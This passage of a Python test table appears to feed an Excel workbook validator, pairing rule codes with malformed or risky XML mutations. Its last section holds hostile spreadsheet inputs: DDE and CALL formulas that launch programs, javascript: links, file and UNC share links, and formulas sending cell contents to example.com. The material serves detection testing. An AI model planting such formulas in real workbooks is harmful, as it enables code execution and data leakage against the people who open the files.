    ("a drawing at a negative row", "PS535", (replace(DRAWING, "<xdr:row>3</xdr:row>", "<xdr:row>-1</xdr:row>"),)),
    ("a structured reference in a chart", "PS536", (replace(CHART, "Board!$B$2:$B$4", "SKU[Total]"),)),
    ("a chart range on a sheet that is not there", "PS536", (replace(CHART, "Board!$B$2:$B$4", "Gone!$B$2:$B$4"),)),
    ("a chart range that is none", "PS536", (replace(CHART, "Board!$B$2:$B$4", "Board!$B$2:$B"),)),
    ("a chart range without a sheet", "PS536", (replace(CHART, "Board!$B$2:$B$4", "$B$2:$B$4"),)),
    ("an empty chart range", "PS536", (replace(CHART, "Board!$B$2:$B$4", ""),)),
    ("a chart that names an axis that is not there", "PS536", (replace(CHART, '<c:axId val="50010002"/></c:barChart>', '<c:axId val="7"/></c:barChart>'),)),
    ("two series with one order", "PS536", (replace(CHART, '<c:order val="1"/>', '<c:order val="0"/>'),)),
    ("two series with one index", "PS536", (replace(CHART, '<c:idx val="1"/>', '<c:idx val="0"/>'),)),
    ("a comment on no cell", "PS537", (replace(COMMENTS, 'ref="A3"', 'ref="A0"'),)),
    ("two comments on one cell", "PS537", (insert_before(COMMENTS, "</commentList>", '<comment ref="A3" authorId="0"><text><t>x</t></text></comment>'),)),
    ("a comment by nobody", "PS537", (replace(COMMENTS, 'authorId="0"', 'authorId="4"'),)),
    ("comments without their drawing", "PS537", (cell('<legacyDrawing r:id="rId2"/>', ""),)),
    ("a comment of 32,768 characters", "PS537", (replace(COMMENTS, "what is sold", "x" * 32_768),)),
    ("a sparkline in two cells", "PS538", (replace(BOARD, "<xm:sqref>C2</xm:sqref>", "<xm:sqref>C2:C3</xm:sqref>"),)),
    ("a sparkline of a sheet that is not there", "PS538", (replace(BOARD, "Board!A2:B2", "Gone!A2:B2"),)),
    ("a structured reference in a sparkline", "PS538", (replace(BOARD, "Board!A2:B2", "SKU[Total]"),)),
    ("a sparkline of no range", "PS538", (replace(BOARD, "Board!A2:B2", "Board!A2:B"),)),
    # -- styles and strings ------------------------------------------------------------------------------
    ("a cell format beyond the last", "PS575", (cell('<c r="B4" s="1">', '<c r="B4" s="3">'),)),
    ("a column format beyond the last", "PS575", (cell('style="1"', 'style="3"'),)),
    ("a row format beyond the last", "PS575", (cell('ht="30"', 'ht="30" s="3" customFormat="1"'),)),
    ("a differential format beyond the last", "PS576", (cell('dxfId="0"', 'dxfId="1"'),)),
    ("a table's differential format beyond the last", "PS576", (replace(TABLE, 'name="Total"', 'name="Total" dataDxfId="4"'),)),
    ("a shared string beyond the last", "PS577", (cell("<v>10</v></c></row></sheetData>", "<v>16</v></c></row></sheetData>"),)),
    ("shared strings that are gone", "PS577", (drop(STRINGS), replace(BOOK_LINKS, '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>', ""), replace(TYPES, '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>', ""))),
    ("a number format with bare words", "PS578", (number_format("0 units"),)),
    ("a number format with a quote never closed", "PS578", (number_format('0"元'),)),
    ("a number format with a bracket never closed", "PS578", (number_format("[Red0.0"),)),
    ("a number format with an unknown colour", "PS578", (number_format("[Purple]0.0"),)),
    ("a number format with a Chinese colour", "PS578", (number_format("[红色]0"),)),
    ("a number format with a numbered Chinese colour", "PS578", (number_format("[颜色10]0"),)),
    ("a number format with a condition on no number", "PS578", (number_format("[>x]0;0"),)),
    ("a number format with a colour beyond the last", "PS578", (number_format("[Color 57]0"),)),
    ("a number format with half an exponent", "PS578", (number_format("0.0E+"),)),
    ("a number format with an exponent without a sign", "PS578", (number_format("0E0"),)),
    ("a number format of five sections", "PS578", (number_format("0;0;0;@;0"),)),
    ("a number format that ends with an escape", "PS578", (number_format("0\\"),)),
    ("a number format of 256 characters", "PS578", (number_format("0" * 256),)),
    ("two number formats with one id", "PS578", (replace(STYLES, "</numFmts>", '<numFmt numFmtId="164" formatCode="0.0"/></numFmts>'),)),
    ("a font beyond the last", "PS579", (replace(STYLES, 'numFmtId="164" fontId="0"', 'numFmtId="164" fontId="3"'),)),
    ("a fill beyond the last", "PS579", (replace(STYLES, 'numFmtId="164" fontId="0" fillId="0"', 'numFmtId="164" fontId="0" fillId="2"'),)),
    ("a border beyond the last", "PS579", (replace(STYLES, 'fillId="0" borderId="0" xfId="1"', 'fillId="0" borderId="5" xfId="1"'),)),
    ("a style beyond the last", "PS579", (replace(STYLES, 'xfId="1" applyAlignment', 'xfId="2" applyAlignment'),)),
    ("65,491 cell formats", "PS579", (replace(STYLES, "</cellXfs>", '<xf numFmtId="0"/>' * 65_488 + "</cellXfs>"),)),
    ("a font of 500 points", "PS579", (replace(STYLES, '<sz val="11"/>', '<sz val="500"/>'),)),
    # -- what the schema says ----------------------------------------------------------------------------
    ("a row with an attribute that rows have not", "PS508", (replace(SHEET, ROW_6, ROW_6.replace("spans", "span")),)),
    ("a row hidden with a word", "PS508", (replace(SHEET, ROW_6, ROW_6.replace("spans", 'hidden="yes" spans')),)),
    ("a row whose spans are letters", "PS508", (replace(SHEET, ROW_6, ROW_6.replace("1:7", "A:G")),)),
    ("a cell with an attribute that cells have not", "PS508", (cell('<c r="B4"', '<c style="1" r="B4"'),)),
    ("a cell with two values", "PS507", (cell("<v>1.5</v>", "<v>1.5</v><v>1.5</v>"),)),
    ("a date of the thirteenth month", "PS522", (cell(B4, '<c r="B4" s="1" t="d"><v>2024-13-01</v></c>'),)),
    ("a formula of an unknown kind", "PS571", (cell('<f t="array" ref="F5">', '<f t="matrix">'),)),
    ("an array formula whose range begins elsewhere", "PS571", (cell('<f t="array" ref="F5">', '<f t="array" ref="F6:F7">'),)),
    ("a sheet in another language of XML", "PS508", (replace(HIDDEN, "spreadsheetml/2006/main", "spreadsheetml/2007/main"),)),
    ("a window that is not there", "PS528", (replace(HIDDEN, 'workbookViewId="0"', 'workbookViewId="1"'),)),
    ("a filter of the sheet over a table", "PS531", (insert_before(SHEET, "<conditionalFormatting", '<autoFilter ref="A3:D6"/>'),)),
    ("a conditional format with four formulas", "PS550", (cell("<formula>$D4&gt;20</formula>", "<formula>$D4&gt;20</formula>" * 4),)),
    ("a 2010 conditional format whose id is no GUID", "PS508", (cell('<x14:cfRule type="dataBar" id="{', '<x14:cfRule type="dataBar" id="'),)),
    ("a 2010 data bar longer than its cell", "PS508", (cell('maxLength="100"', 'maxLength="200"'),)),
    ("a run of a shared string whose format stands behind it", "PS507", (replace(STRINGS, "<r><rPr>", "<r><t>x</t><rPr>"), replace(STRINGS, "</rPr><t>red</t>", "</rPr>"))),
    ("a run of a shared string with a name of fonts in styles", "PS508", (replace(STRINGS, "rFont", "name"),)),
    ("a shared string of two texts", "PS507", (replace(STRINGS, "<t>a</t>", "<t>a</t><t>a</t>"),)),
    ("a shared string that holds what strings do not", "PS508", (replace(STRINGS, "<t>a</t>", "<b/><t>a</t>"),)),
    ("a gap of bars beyond 500", "PS508", (insert_before(CHART, '<c:axId val="50010001"/><c:axId val="50010002"/></c:barChart>', '<c:gapWidth val="501"/>'),)),
    ("bars that overlap by 101", "PS508", (insert_before(CHART, '<c:axId val="50010001"/><c:axId val="50010002"/></c:barChart>', '<c:overlap val="101"/>'),)),
    ("a text of a chart without its body", "PS508", (replace(CHART, "<a:bodyPr/>", ""),)),
    ("letters of half a point in a chart", "PS508", (replace(CHART, "<a:defRPr/>", '<a:defRPr sz="50"/>'),)),
    ("a line of a chart before its fill", "PS507", (insert_before(CHART, "<c:printSettings>", "<c:spPr><a:ln/><a:noFill/></c:spPr>"),)),
    ("a colour of a chart that is a word", "PS508", (insert_before(CHART, "<c:printSettings>", '<c:spPr><a:solidFill><a:srgbClr val="red"/></a:solidFill></c:spPr>'),)),
    ("an anchor off by a word", "PS508", (replace(DRAWING, "<xdr:rowOff>0<", "<xdr:rowOff>half<"),)),
    ("a theme with eleven colours", "PS508", (replace(THEME, '<a:folHlink><a:srgbClr val="800080"/></a:folHlink>', ""),)),
    ("a theme whose fonts have no name", "PS508", (replace(THEME, '<a:fontScheme name="Office">', "<a:fontScheme>"),)),
    ("a theme that is a style sheet", "PS508", (put(THEME, f"<styleSheet {MAIN}/>"),)),
    ("two themes", "PS505", (link(BOOK_LINKS, "theme/theme1.xml", "theme"),)),
    ("a table without a name to show", "PS508", (replace(TABLE, ' displayName="SKU"', ""),)),
    ("a sheet id beyond the last", "PS508", (replace(BOOK, 'sheetId="3"', 'sheetId="65535"'),)),
    ("a font whose name is too long", "PS579", (replace(STYLES, '<name val="Calibri"/>', f'<name val="{"x" * 32}"/>'),)),
    ("a font of half a point", "PS579", (replace(STYLES, '<sz val="11"/>', '<sz val="0.5"/>'),)),
    ("a text turned by 200", "PS508", (insert_before(STYLES, "</cellXfs>", '<xf numFmtId="0"><alignment textRotation="200"/></xf>'),)),
    ("a number format of three conditions", "PS578", (number_format("[<1]0;[<2]0;[<3]0"),)),
    ("a name with too long a comment", "PS515", (replace(BOOK, 'name="Rate"', f'name="Rate" comment="{"x" * 256}"'),)),
    ("a printed area without its sheet", "PS568", (insert_before(BOOK, "</definedNames>", '<definedName name="_xlnm.Print_Area" localSheetId="2">$A$1:$B$2</definedName>'),)),
    ("a shape of a comment that is not well-formed", "PS503", (replace("xl/drawings/vmlDrawing1.vml", "</v:textbox>", ""),)),
    ("a content type for a part without its slash", "PS504", (replace(TYPES, f'PartName="/{STYLES}"', f'PartName="{STYLES}"'),)),
    *((f"own properties with {what}", "PS508", own_properties(*ids)) for what, ids in (("one number twice", (2, 2)), ("the number 1", (1, 2)))),
    ("a creation time without its type", "PS508", (replace(CORE, '<dcterms:created xsi:type="dcterms:W3CDTF">', "<dcterms:created>"),)),
    *((f"a creation time of '{text}'", "PS508", (replace(CORE, "</dcterms:created>", f"{text}</dcterms:created>"),)) for text in ("+-2:00", "x", " 8:00")),
    ("a creator twice", "PS507", (insert_before(CORE, "</cp:coreProperties>", "<dc:creator>A</dc:creator><dc:creator>B</dc:creator>"),)),
    ("a creator of the type of times", "PS508", (insert_before(CORE, "</cp:coreProperties>", '<dc:description xsi:type="dcterms:W3CDTF">A</dc:description>'),)),
    ("a property that there is not", "PS508", (insert_before(CORE, "</cp:coreProperties>", "<dc:publisher>A</dc:publisher>"),)),
    ("a time when it was printed that is none", "PS508", (insert_before(CORE, "</cp:coreProperties>", "<cp:lastPrinted>20.5.2024</cp:lastPrinted>"),)),
    ("a one-cell anchor that says how it moves", "PS508", (replace(DRAWING, "<xdr:twoCellAnchor>", f'<xdr:oneCellAnchor editAs="oneCell">{CORNER}<xdr:ext cx="1" cy="1"/><xdr:sp/><xdr:clientData/></xdr:oneCellAnchor><xdr:twoCellAnchor>'),)),
    ("an element that fonts do not have", "PS508", (replace(STYLES, '<family val="2"/>', '<fasmily val="2"/>'),)),
    ("columns with none in it", "PS508", (replace(HIDDEN, "<sheetData>", "<cols/><sheetData>"),)),
    ("an underline that Excel does not know", "PS508", (replace(STYLES, "<u/>", '<u val="wavy"/>'),)),
    ("a text turned by 270 degrees", "PS508", (replace(STYLES, '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>', '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"><alignment textRotation="270"/></xf>'),)),
    ("a bar chart without its direction", "PS508", (replace(CHART, '<c:barDir val="col"/>', ""),)),
    ("a prefix that no one declares", "PS503", (replace(HIDDEN, "<worksheet ", '<worksheet xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac" '),)),
    ("an extension declared twice", "PS504", (insert_before(TYPES, "<Override", '<Default Extension="XML" ContentType="application/xml"/>'),)),
    ("a part declared twice", "PS504", (insert_before(TYPES, "</Types>", f'<Override PartName="/{STYLES}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'),)),
    ("a pivot table whose cache is not there", "PS534", pivot("9", '<s v="a"/>')),
    ("a pivot cache that holds fewer items than it says", "PS534", pivot("1", "")),
    ("a pivot table with an item that its cache does not hold", "PS534", pivot("1", '<s v="a"/>', shown="4")),
    ("a link with a space in its host", "PS530", (replace(SHEET_LINKS, "https://example.com/", "https:// example.com/"),)),
    ("another workbook that the file does not link to", "PS565", (formula("[1]Sheet1!A2"),)),
    ("an unquoted sheet that begins with a digit", "PS568", (title("12pm"), name_for("Rate", "12pm!$C$1:$E$12"))),
    ("a name for cells of a sheet that is gone", "PS568", (name_for("Rate", "#REF!$A$1:$B$2"),)),
    ("a conditional format of an unknown period", "PS508", (cell('type="expression"', 'type="timePeriod" timePeriod="lastYear"'),)),
    ("an icon set that Excel does not know", "PS508", (cell('iconSet="3Arrows"', 'iconSet="3Cats"'),)),
    ("a threshold of 2010 in a format of 2007", "PS508", (cell('<dataBar><cfvo type="min"/>', '<dataBar><cfvo type="autoMin"/>'),)),
    ("a 2010 conditional format of an unknown kind", "PS508", (cell('<x14:cfRule type="dataBar"', '<x14:cfRule type="dataBars"'),)),
    ("a 2010 threshold of an unknown kind", "PS508", (cell('<x14:cfvo type="autoMin"/>', '<x14:cfvo type="auto"/>'),)),
    ("a 2010 data bar of an unknown direction", "PS508", (cell("<x14:dataBar ", '<x14:dataBar direction="up" '),)),
    ("a validation with an unknown alert", "PS508", (cell('type="decimal"', 'type="decimal" errorStyle="error"'),)),
    ("a validation with an unknown keyboard", "PS508", (cell('type="decimal"', 'type="decimal" imeMode="chinese"'),)),
    ("a number that is NaN", "PS522", (replace(SHEET, "<v>1.5</v>", "<v>nan</v>"),)),
    # -- what reaches out --------------------------------------------------------------------------------
    ("a function that asks the network", "PS580", (formula('_xlfn.WEBSERVICE("https://example.com/?"&A4)'),)),
    ("a picture that is loaded when the workbook opens", "PS580", (formula('_xlfn.IMAGE("https://example.com/a.png")'),)),
    ("live data of a program", "PS580", (formula('RTD("a.b",,"c")'),)),
    ("Python in the cloud", "PS580", (formula("_xlfn._xlws.PY(0,1,A4)"),)),
    ("a function of a library", "PS580", (formula('CALL("kernel32","WinExec","JCJ","calc",0)'),)),
    ("a file that a new function reads", "PS580", (formula('_xlfn.IMPORTCSV("https://example.com/a.csv")'),)),
    ("another program by DDE in a formula", "PS580", (formula("cmd|'/c calc'!A0"),)),
    ("a link of a formula that runs a script", "PS582", (formula('HYPERLINK("JavaScript:alert(1)","a")'),)),
    ("a link of a formula to a share", "PS582", (formula('HYPERLINK("\\\\example.com\\share","a")'),)),
    ("a link of a formula to a file", "PS582", (formula('HYPERLINK("file:///C:/a.exe","a")'),)),
    ("a link of a formula that carries a cell", "PS582", (formula('HYPERLINK("https://example.com/?"&A4,"a")'),)),
    ("a link that runs a script", "PS582", (replace(SHEET_LINKS, "https://example.com/", "javascript:alert(1)"),)),
    ("a link to a share", "PS582", (replace(SHEET_LINKS, "https://example.com/", "file:///%5C%5Cexample.com%5Cshare"),)),
    ("a picture at an address", "PS581", (outside("xl/drawings/_rels/drawing1.xml.rels", "https://example.com/a.png", "image"),)),
    ("another workbook", "PS581", external('<externalBook r:id="rId50"/>', "file:///C:/a.xlsx", "externalLinkPath")),
    ("another program by DDE", "PS581", external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    ("another program by OLE", "PS581", external('<oleLink r:id="rId50" progId="Word.Document"/>', "file:///C:/a.docx", "oleObject")),
    ("a query to the web", "PS581", queries('<connection id="1" name="q" type="4" refreshedVersion="6"><webPr url="https://example.com/"/></connection>')),
    ("a query to a database", "PS581", queries('<connection id="1" name="q" type="1" refreshedVersion="6"><dbPr connection="DSN=x"/></connection>')),
    ("an add-in of the web", "PS581", (link("_rels/.rels", "xl/webextensions/taskpanes.xml", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"), put("xl/webextensions/taskpanes.xml", "<taskpanes/>"))),
)  # fmt: skip
"""Titles are unique: they name the tests."""
